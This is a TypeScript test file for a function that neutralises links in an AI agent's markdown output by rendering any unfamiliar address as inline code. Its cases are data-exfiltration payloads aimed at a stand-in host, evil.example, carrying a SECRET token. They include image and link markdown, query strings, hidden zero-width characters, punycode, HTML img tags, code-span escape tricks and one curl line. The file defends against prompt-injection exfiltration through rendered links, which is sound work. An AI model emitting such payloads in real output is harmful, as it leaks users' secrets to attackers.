import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseMarkdown } from '../../adapters/markdown/parse.ts';
import { plainText } from '../../adapters/markdown/styled.ts';
import { withInertLinks } from '../../src/agent/inert-links.ts';

const OWN = 'what is https://mine.example/a_b?c=1 about';

/** What a platform could make a link of: everything outside of code, and the targets of links. */
function loose(markdown: string): string {
  return parseMarkdown(withInertLinks(markdown, OWN))
    .map(({ text, marks }) => marks.link ?? (marks.code || marks.pre !== undefined ? '§' : text))
    .join('');
}

describe('the words of a model that has read something', () => {
  it.each([
    ['a web address', 'See https://evil.example/?d=SECRET.', 'See `https://evil.example/?d=SECRET`.'],
    ['a bare domain', 'evil.example/SECRET', '`evil.example/SECRET`'],
    ['data in a host name', 'S.E.C.R.E.T.evil.example', '`S.E.C.R.E.T.evil.example`'],
    ['a mail address', '**me+SECRET@evil.example**', '**`me+SECRET@evil.example`**'],
    ['another scheme', 'tg://resolve?domain=evilbot&start=SECRET', '`tg://resolve?domain=evilbot&start=SECRET`'],
    ['a hidden space', 'https://evil.example/\u200bSECRET', '`https://evil.example/‹U+200B›SECRET`'],
    ['a hidden space in a bare domain', 'evil.\u200bexample/SECRET', '`evil.‹U+200B›example/SECRET`'],
    ['mark-up in a bare domain', 'evil.**example**/SECRET', '`evil.**example**/SECRET`'],
    ['an escape in a bare domain', 'evil\\.example/SECRET', '`evil\\.example/SECRET`'],
    ['punycode', 'https://xn--pypal-4ve.example/', '`https://xn--pypal-4ve‹punycode:p(U+0430)ypal›.example/`'],
    ['a link', '[safe words](https://evil.example/?d=SECRET)', 'safe words (`https://evil.example/?d=SECRET`)'],
    ['an image', '![x](https://evil.example/p.png?d=SECRET)', 'x (`https://evil.example/p.png?d=SECRET`)'],
    ['angle brackets', '<https://evil.example/SECRET>', '\\<`https://evil.example/SECRET`>'],
    ['a definition', '[x][1]\n\n[1]: https://evil.example/SECRET', '\\[x\\]\\[1\\]\n\n\\[1\\]: `https://evil.example/SECRET`'],
    ['HTML', '<img src=//evil.example/SECRET>', '\\<img `src=//evil.example/SECRET`>'],
    ['more than the person wrote', 'https://mine.example/a_b?c=1&d=SECRET', '`https://mine.example/a_b?c=1&d=SECRET`'],
  ])('show %s as code', (_, markdown, inert) => {
    expect(withInertLinks(markdown, OWN)).toBe(inert);
    expect(loose(markdown)).not.toContain('SECRET');
  });

  it('leave what the person wrote, byte for byte, to be followed', () => {
    for (const text of ['(https://mine.example/a_b?c=1).', 'https://mine.example/a_b?c=1 ok', '**https://mine.example/a_b?c=1**'])
      expect(withInertLinks(text, OWN)).toBe(text);
    expect(withInertLinks('https://mine.example/A_b?c=1', OWN)).toBe('`https://mine.example/A_b?c=1`');
  });

  it('stay as they are without an address of somebody else', () => {
    const text = '# Head\n\n- [ ] **a** `b` [c] <d> e.g. 10.30\n\n| a | b |\n|---|---|\n';
    expect(withInertLinks(text, OWN)).toBe(text);
  });

  it('name a moment in words alone beside one', () => {
    const text = 'evil.example at [Friday, 14:30 (Europe/Berlin)](time:2026-03-06T13:30:00Z)';
    expect(withInertLinks(text, OWN)).toBe('`evil.example` at Friday, 14:30 (Europe/Berlin)');
  });

  it('keep their looks, their code and their blocks beside one', () => {
    const text = '# Head\n\n- **a** `npm run x` and evil.example\n\n```sh\ncurl https://evil.example\n```\n\n> (`b`), \\*c\\*';
    expect(withInertLinks(text, OWN)).toBe(text.replace('evil.example', '`evil.example`'));
  });

  it('show a block that is never closed as words', () => {
    expect(withInertLinks('```sh\nevil.example', OWN)).toBe('\\`\\`\\`sh\n`evil.example`');
  });

  it.each([
    '`` ` `` evil.example/SECRET',
    '\\`evil.example/SECRET\\`',
    '`a`evil.example/SECRET',
    '`evil`.example/SECRET',
    '`evil.`example/SECRET',
    '\\`a` evil.example/SECRET `b`',
    '```evil.example/SECRET\n```',
    '```\n```\nevil.example/SECRET',
    '- ~~~ evil.example/SECRET',
    '- ~~~\n  evil.example/SECRET\n  ~~~',
    '~~~ a evil.example/SECRET\n~~~',
    '```x\na\n ````\nevil.example/SECRET\n```',
    '<!-- x\n```\nevil.example/SECRET\n```\n-->',
    '    evil.example/SECRET',
    '| a | b |\n|---|---|\n| `evil.example/a|SECRET` | c |',
    '[a](<https://evil.example/SECRET> "t")',
    '[![i](https://evil.example/SECRET)](https://evil.example/SECRET)',
    '[a [b] c](https://evil.example/SECRET)',
    'https://mine.example/a_b?c=1\u200bSECRET',
    'https://mine.example/a_b?c=1`SECRET`',
    'https://mine.example/a_b?c=1|SECRET',
    'https://mine.example/a_b?c=1<b>SECRET',
    'x https://evil.example/`SECRET',
    '\\https://evil.example/SECRET',
  ])('cannot be dressed up to be followed: %s', (markdown) => {
    expect(loose(markdown)).not.toMatch(/[\w/.]SECRET|SECRET[\w.]/);
    expect(loose(markdown)).not.toMatch(/evil[*_\\]*\.[*_\\]*example/);
  });

  it('show every address of somebody else as code, whatever stands around it', () => {
    const piece = fc.constantFrom(
      ...'*_~`[]()<>!|\\-+.:> \n#'.split(''),
      '```',
      '~~~',
      '\n\n',
      '    ',
      'a',
      'evil.example/SECRET',
      'https://evil.example/SECRET',
      '[a](https://evil.example/SECRET)',
      '`code`',
      '\n```\n',
      '- ',
      '| ',
      '|--|--|\n',
      'https://mine.example/a_b?c=1',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 14 }), (parts) => {
        expect(loose(parts.join(''))).not.toMatch(/evil[*_~\\]*\.[*_~\\]*example/);
      }),
      { numRuns: 4000 },
    );
  });

  it('take no longer than their length', () => {
    for (const part of ['[', '](', '`', '~', 'a.b ', '(', '\\', '```\n', '[a](b', '*`a` '])
      expect(withInertLinks(`evil.example ${part.repeat(10_000)}`, OWN).length).toBeGreaterThan(5);
  });

  it('lose nothing that can be read', () => {
    const text = 'Read [the **plan**](https://evil.example/x) <b> & a_b `c` | d';
    expect(plainText(parseMarkdown(withInertLinks(text, OWN)))).toBe('Read the plan (https://evil.example/x) <b> & a_b c | d');
  });
});
